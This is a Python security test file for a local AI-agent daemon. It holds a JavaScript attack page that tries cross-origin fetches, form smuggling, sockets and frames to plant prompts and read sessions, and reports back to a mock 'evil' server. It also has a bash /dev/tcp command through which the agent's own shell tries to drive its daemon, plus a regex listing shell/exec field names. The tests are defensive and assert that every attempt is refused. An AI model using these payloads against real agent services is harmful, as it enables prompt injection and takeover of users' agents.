"""The doors of the daemon, tried by strangers: what a page, a neighbour or a command of the agent's own gets."""

from __future__ import annotations

import asyncio
import contextlib
import hmac
import json
import os
import re
import shutil
import signal
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from agi.protocol import chat, rpc
from agi.testing.box import TOKEN, daemon_in_a_box

from .conftest import FREE, Served, holders, needs_a_sandbox, shown_of

PROGRAMS = re.compile(r"^(command|cmd|argv?|args|exec|executable|program|script|shell|env|environment|cwd|binary)s?$")


def fields_of(kind: Any) -> Iterator[str]:
    """Every name that a message of this type may carry, at any depth."""
    info = msgspec.inspect.type_info(kind)
    waiting, known = [info], set()
    while waiting:
        one = waiting.pop()
        if isinstance(one, msgspec.inspect.StructType) and one.cls not in known:
            known.add(one.cls)
            yield from (field.encode_name for field in one.fields)
            waiting += [field.type for field in one.fields]
        elif isinstance(one, msgspec.inspect.UnionType):
            waiting += one.types
        elif isinstance(one, msgspec.inspect.ListType | msgspec.inspect.VarTupleType):
            waiting.append(one.item_type)


def names_in(schema: Any, parts: dict[str, Any], known: frozenset[str] = frozenset()) -> Iterator[str]:
    """Every name that a body described by this schema may carry."""
    if isinstance(schema, list):
        for one in schema:
            yield from names_in(one, parts, known)
    elif isinstance(schema, dict):
        part = schema.get("$ref", "").rpartition("/")[2]
        if part and part not in known:
            yield from names_in(parts[part], parts, known | {part})
        yield from schema.get("properties", {})
        for value in schema.values():
            yield from names_in(value if isinstance(value, dict | list) else [], parts, known)


@pytest.mark.threat("T7")
async def test_no_request_has_a_place_for_a_program(tmp_path: Path) -> None:
    """On no surface does a field, a query or a header name something to be started; new ones are looked at too."""
    async with daemon_in_a_box(tmp_path) as daemon:
        document = (await daemon.get("/openapi.json")).json()
    parts = document["components"]["schemas"]
    operations = [one for path in document["paths"].values() for one in path.values()]
    named = {name for one in operations for name in names_in(one.get("requestBody", {}).get("content", {}), parts)}
    named |= {parameter["name"] for one in operations for parameter in one.get("parameters", [])}
    named |= {name for kind in rpc.METHODS.values() for name in fields_of(kind)}
    named |= {name for kind in chat.ClientMessage.__subclasses__() for name in fields_of(kind)}

    assert {"prompt", "workspace_path", "taskSlug", "toolCallId", "after"} <= named
    assert sorted(name for name in named if PROGRAMS.match(name)) == []


PAGE = """<!doctype html><meta charset=utf-8><body><script>
const D = "%(daemon)s", W = D.replace("http", "ws"), C = "%(control)s", told = {};
const body = JSON.stringify({prompt: "planted by a page"});
const wait = (make) => new Promise((done) => { make(done); setTimeout(() => done("nothing"), 3000); });
// Nobody may look into a frame of another origin. What wants to be there can say so, which one page does.
const framed = (name, load) => wait((done) => { const f = document.createElement("iframe"); f.name = name;
  onmessage = (said) => done(said.data); document.body.append(f);
  f.onload = () => setTimeout(() => done(""), 500); load(name, f); });
const send = (name, action) => { const form = document.createElement("form"); form.method = "post";
  form.action = action; form.enctype = "text/plain"; form.target = name;
  const i = document.createElement("input"); i.name = '{"prompt": "planted by a form", "x": "'; i.value = '"}';
  form.append(i); document.body.append(form); form.submit(); };
const ways = {
  control: async () => (await fetch(C + "/open")).text(),
  fetch_read: async () => (await fetch(D + "/v1/sessions")).text(),
  fetch_health: async () => (await fetch(D + "/v1/health")).text(),
  fetch_json: async () => (await fetch(D + "/v1/one-shot",
    {method: "POST", body, headers: {"content-type": "application/json"}})).text(),
  fetch_simple: async () => (await fetch(D + "/v1/one-shot", {method: "POST", body, mode: "no-cors"})).text(),
  fetch_credentials: async () => (await fetch(D + "/v1/sessions", {credentials: "include"})).text(),
  beacon: async () => { navigator.sendBeacon(D + "/v1/one-shot", body); return ""; },
  socket: () => wait((done) => { const ws = new WebSocket(W + "/v1/chat");
    ws.onopen = () => { ws.send(JSON.stringify({type: "chat.send", id: "1", content: "planted"})); done("open"); };
    ws.onerror = () => done(""); }),
  rpc: () => wait((done) => { const ws = new WebSocket(W + "/v1/rpc"); ws.onopen = () => done("open");
    ws.onerror = () => done(""); }),
  events: () => wait((done) => { const source = new EventSource(D + "/v1/sessions/%(session)s/events");
    source.onopen = () => done("open"); source.onerror = () => done(""); }),
  image: () => wait((done) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => done("");
    i.src = D + "/v1/sessions"; }),
  script: () => wait((done) => { const s = document.createElement("script"); s.onload = () => done("loaded");
    s.onerror = () => done(""); s.src = D + "/v1/sessions"; document.body.append(s); }),
  form: () => framed("form", (name) => send(name, D + "/v1/sessions")),
  frame: () => framed("frame", (name, f) => { f.src = D + "/v1/sessions/%(session)s"; }),
  frame_page: () => framed("page", (name, f) => { f.src = D + "/"; }),
  control_form: () => framed("control_form", (name) => send(name, C + "/loud")),
  control_frame: () => framed("control_frame", (name, f) => { f.src = C + "/loud"; }),
};
(async () => {
  for (const name in ways) { try { told[name] = await ways[name](); } catch (error) { told[name] = ""; } }
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


REFUSED = "refused:origin_refused"
LOUD = b"<!doctype html><script>parent.postMessage('everything', '*')</script>"


class Evil:
    """A site that serves one page, and another for its frames, and hears what became of it."""

    def __init__(self) -> None:
        self.page = ""
        self.report: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            found = re.search(r"content-length: (\d+)", head, re.IGNORECASE)
            body = await reader.readexactly(int(found[1]) if found else 0)
            if head.startswith("POST /report"):
                self.report.set_result(json.loads(body))
            said = {"/": self.page.encode(), "/loud": LOUD}.get(head.split()[1], b"everything")
            kind = b"text/plain" if said == b"everything" else b"text/html"
            lax = b"Access-Control-Allow-Origin: *\r\n"
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: %b\r\n%bContent-Length: %d\r\n" % (kind, lax, len(said)))
            writer.write(b"Connection: close\r\n\r\n" + said)
            await writer.drain()
        writer.close()


@contextlib.asynccontextmanager
async def browsing(url: str, folder: Path) -> AsyncIterator[None]:
    """A browser of the user's own at a page; it reaches nothing but this machine."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if chromium is None:
        pytest.skip("no Chromium is installed, so no page can be opened")
    process = await asyncio.create_subprocess_exec(
        *(chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync"),
        *("--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage"),
        *("--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",),
        *(f"--user-data-dir={folder}", url),
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        await process.wait()


@pytest.mark.threat("T8")
@pytest.mark.advisory("CVE-2026-22812", "GHSA-vxw4-wv6m-9hhh", "opencode#6355", "CVE-2025-49596", "CVE-2025-52882")
async def test_a_page_in_a_real_browser_reads_nothing_and_changes_nothing(served: Served, tmp_path: Path) -> None:
    """Fetches, sockets, streams, pictures, scripts, forms and frames of another origin all end at the door.

    The browser is the user's own, so the kernel vouches for it, and no token is asked for: only the guard is left.
    """
    evil = Evil()
    async with served.serving():
        await served.ask("POST /v1/sessions", "Content-Type: application/json", body=b"{}")
        (session,) = await served.sessions()
        site = await asyncio.start_server(evil.answer, "127.0.0.1", 0)
        port = site.sockets[0].getsockname()[1]
        where = {"daemon": f"http://127.0.0.1:{served.port}", "control": f"http://127.0.0.1:{port}"}
        evil.page = PAGE % {**where, "session": session["id"]}
        async with browsing(f"http://localhost:{port}/", tmp_path / "browser"), asyncio.timeout(60):
            told = await evil.report
        site.close()
        after = await served.sessions()

    assert {told.pop(name) for name in ("control", "control_form", "control_frame")} == {"everything"}
    assert len(told) == 14
    assert {name: said for name, said in told.items() if said} == {}
    assert [one["id"] for one in after] == [session["id"]]
    lines = [line.split() for line in served.said.splitlines() if re.match(r"[A-Z]+ /\S* \d{3} ", line)]
    refused = [(method, path) for method, path, status, *_, how in lines if (status, how) == ("403", REFUSED)]
    assert len(refused) == len(lines) - 3  # its own user asked three times
    assert len(refused) >= 13
    assert {("GET", "/"), ("GET", f"/v1/sessions/{session['id']}"), ("POST", "/v1/sessions")} <= set(refused)


@pytest.mark.threat("T9")
@pytest.mark.advisory("AutoJack")
@needs_a_sandbox
@pytest.mark.parametrize("mode", ["auto", "off"])
@pytest.mark.parametrize("how", ["plainly", "left behind", "unmarked", "unmarked, left behind"])
async def test_what_the_agent_runs_cannot_drive_its_own_daemon(tmp_path: Path, how: str, mode: str) -> None:
    """A browser that an agent starts is on this machine too: with all of the network open, it is told 401."""
    config = {**FREE, "sandbox": {"network": True, "mode": mode}}
    async with daemon_in_a_box(tmp_path, trusted=True, config=config) as daemon:
        port = daemon.url.rpartition(":")[2]
        asks = f"printf 'GET /v1/sessions HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n' >&3; head -c 12 <&3 > got"
        line = f"exec 3<>/dev/tcp/127.0.0.1/{port}; {asks}"
        bash = "env -i A=b /bin/bash" if "unmarked" in how else "bash"
        command = f"{bash} -c '{line}'"
        if "left behind" in how:
            command = f"(setsid {command} &); until [ -s got ]; do sleep 0.02; done"
        daemon.model.calls("shell", command=command.replace("'GET", '"GET').replace("\\n' >", '\\n" >')).then_says("ok")
        turn = await daemon.ask("go")
        await turn.ended()

        assert daemon.workspace.read("got") == "HTTP/1.1 401"
        assert (await daemon.get("/v1/sessions")).status == 200


@pytest.mark.threat("T10")
async def test_a_token_is_compared_in_one_time_whatever_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """How much of a guess was right cannot be told by how long the answer took."""
    compared: list[bytes] = []

    def compare(given: bytes, right: bytes) -> bool:
        compared.append(given)
        return original(given, right)

    original = hmac.compare_digest
    monkeypatch.setattr("agi.server.guard.hmac.compare_digest", compare)
    async with daemon_in_a_box(tmp_path, auth="token") as daemon:
        for guess in ("x", TOKEN[:-1], TOKEN + "x", TOKEN):
            await daemon.get("/v1/sessions", {"authorization": f"Bearer {guess}"})

    assert compared == [one.encode() for one in ("x", TOKEN[:-1], TOKEN + "x", TOKEN)]


@pytest.mark.threat("T10", "T12")
@pytest.mark.advisory("opencode#38857")
async def test_the_token_stands_in_its_file_and_nowhere_else(served: Served) -> None:
    """Not in the log, whatever was asked; not in a list of processes; in no other file; nor told to a command."""
    served.configure(**FREE, defaultProvider="scripted", auth="token")
    async with served.serving("--trust"):
        bearer = f"Authorization: Bearer {served.token}"
        statuses = [
            (await served.ask("GET /v1/health", bearer))[0],
            (await served.ask(f"GET /v1/health?token={served.token}"))[0],
            (await served.ask(f"GET /{served.token}", bearer, f"Referer: http://x/{served.token}"))[0],
            (await served.ask("GET /v1/health", f"Authorization: Basic {served.token}"))[0],
        ]
        asked = json.dumps({"prompt": f"My token is {served.token}."}).encode()
        statuses.append(
            (await served.ask("POST /v1/one-shot", bearer, "Content-Type: application/json", body=asked))[0]
        )
        token = served.token
        shown = shown_of(served.process.pid)
        holding = holders(token.encode(), served.project, served.home)

    assert statuses == [200, 400, 404, 401, 200]
    assert holding == ["daemon.json"]
    assert token.encode() not in shown
    assert token not in served.said
    assert sum(" 400 " in line or " 401 " in line for line in served.said.splitlines()) == 2
